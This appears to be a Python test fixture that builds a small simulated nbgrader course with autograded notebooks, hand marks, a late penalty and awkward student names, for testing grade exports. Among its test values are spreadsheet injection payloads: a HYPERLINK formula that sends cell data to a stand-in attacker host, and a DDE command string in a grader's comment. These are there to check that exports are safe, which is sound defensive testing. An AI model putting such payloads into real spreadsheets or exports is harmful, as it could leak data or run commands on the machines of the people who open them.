"""A small graded class for the exports: really generated and autograded, with the marks that people
give, and names that break tables.

| student | handed in | besides |
|---|---|---|
| ada | all of it, right | written answer graded by hand, a comment, extra credit |
| bo | half of it, with a text in a spreadsheet's language as an answer | late, penalty 1.5 |
| cy | a file that is no notebook, and `half` | |
| dee | nothing | |
"""

from __future__ import annotations

import shutil
from datetime import datetime
from pathlib import Path
from typing import Any, Final

from nbgrader.api import Gradebook

from grader.notebooks import ipynb
from grader.notebooks.files import write_whole
from tests import courses, simulated

ASSIGNMENT: Final = "first_steps"
SECRET: Final = "s3cret_reference"  # noqa: S105 - looked for in what is written
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1)'

DOUBLE: Final = f"""
import pytest
from grader.lesson import run_tests

def test_two():
    \"\"\"Two doubled is four\"\"\"
    assert double(2) == 4

### BEGIN HIDDEN TESTS
@pytest.mark.points(2)
@pytest.mark.hint("Did you think of numbers below 0?")
def test_negative():
    \"\"\"Numbers below 0\"\"\"
    {SECRET} = -6
    assert double(-3) == {SECRET}
### END HIDDEN TESTS
run_tests(points=3)
"""
HALF: Final = """
from grader.checks import close
from grader.lesson import run_tests

def test_half():
    \"\"\"Half of three\"\"\"
    close(half(3.0), 1.5)

run_tests(points=2)
"""
NAMES: Final = {
    "ada": {"first_name": "=1+1", "last_name": 'O\'Neil "the first", von', "email": "ada@x.edu"},
    "bo": {"first_name": "Bö;=2+2", "last_name": "Ångström", "email": "Bo@x.edu"},
    "cy": {"first_name": "", "last_name": "-Çelik", "email": ""},
    "dee": {"first_name": "丁", "last_name": "李", "email": "dee@x.edu"},
}
NUMBERS: Final = {"ada": "1001", "bo": "1002", "cy": "1003x", "dee": None}
"""Canvas's, as far as they are known."""


def cell(name: str, source: str, *, kind: str = "code", **marks: Any) -> dict[str, Any]:
    """A cell of an instructor's notebook."""
    known = {
        "grade": False,
        "grade_id": name,
        "locked": False,
        "schema_version": 3,
        "solution": False,
        "task": False,
        **marks,
    }
    made = {"cell_type": kind, "id": name, "metadata": {"nbgrader": known}, "source": source}
    return {**made, "outputs": [], "execution_count": None} if kind == "code" else made


def exercise(name: str, tests: str, points: float, solution: str = "x") -> list[dict[str, Any]]:
    """A solution and the cell that grades it."""
    stub = f"def {name}(x):\n    ### BEGIN SOLUTION\n    return {solution}\n    ### END SOLUTION"
    return [
        cell(name, stub, solution=True),
        cell(f"test_{name}", tests.strip(), grade=True, locked=True, points=points),
    ]


def essay(name: str, points: float) -> dict[str, Any]:
    """A question that a person grades."""
    return cell(name, "Why?", kind="markdown", grade=True, solution=True, points=points)


def write(path: Path, cells: list[dict[str, Any]]) -> None:
    """Write a notebook."""
    plain = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    write_whole(path, ipynb.dumps(ipynb.canonical(plain)))


def make(folder: Path) -> Path:
    """The course, graded."""
    folder.mkdir(parents=True)
    shutil.copyfile(simulated.ROOT / "nbgrader_config.py", folder / "nbgrader_config.py")
    source = folder / "source" / ASSIGNMENT
    write(source / "double.ipynb", [*exercise("double", DOUBLE, 3, "2 * x"), essay("why", 2)])
    write(source / "half.ipynb", exercise("half", HALF, 2, "x / 2"))
    write(folder / "source" / "essay" / "essay.ipynb", [essay("opinion", 10)])
    courses.generate(folder)
    right = {
        "double": "def double(x):\n    return 2 * x",
        "half": "def half(x):\n    return x / 2",
        "why": "Because.",
    }
    formula = f"def half(x):\n    return {FORMULA!r}"
    wrong = {"double": "def double(x):\n    return x * x", "half": formula, "why": "=1+1"}
    simulated.hand_in(folder, "ada", right, assignment=ASSIGNMENT)
    simulated.hand_in(folder, "bo", wrong, assignment=ASSIGNMENT)
    simulated.hand_in(folder, "cy", right, assignment=ASSIGNMENT)
    (folder / "submitted" / "cy" / ASSIGNMENT / "double.ipynb").write_text("my homework")
    simulated.hand_in(folder, "ada", {"opinion": "Mine."}, assignment="essay")
    done = courses.here(folder, "autograde", "--jobs", "1")
    assert done.exit_code == 0, done.output
    mark(folder)
    return folder


def mark(folder: Path) -> None:
    """What people add: names, marks, comments, a penalty."""
    with gradebook(folder) as book:
        for student, names in NAMES.items():
            book.update_or_create_student(student, lms_user_id=NUMBERS[student], **names)
        book.find_assignment(ASSIGNMENT).duedate = datetime(2030, 1, 2, 12)
        for student, points in {"ada": 2.0, "bo": 0.5, "cy": 0.0}.items():
            grade = book.find_grade("why", "double", ASSIGNMENT, student)
            grade.manual_score, grade.needs_manual_grade = points, False
            book.find_submission(ASSIGNMENT, student).timestamp = datetime(2030, 1, 1, 9)
        book.find_grade("test_half", "half", ASSIGNMENT, "ada").extra_credit = 0.25
        comment = book.find_comment("why", "double", ASSIGNMENT, "ada")
        comment.manual_comment = "Fine, <b>but</b>\n;=cmd|' /C calc'!A0"
        late = book.find_submission_notebook("double", ASSIGNMENT, "bo")
        late.late_submission_penalty = 1.5
        book.db.commit()


def gradebook(folder: Path) -> Gradebook:
    """A course's gradebook."""
    return Gradebook(f"sqlite:///{folder}/gradebook.db", courses.COURSE_ID)
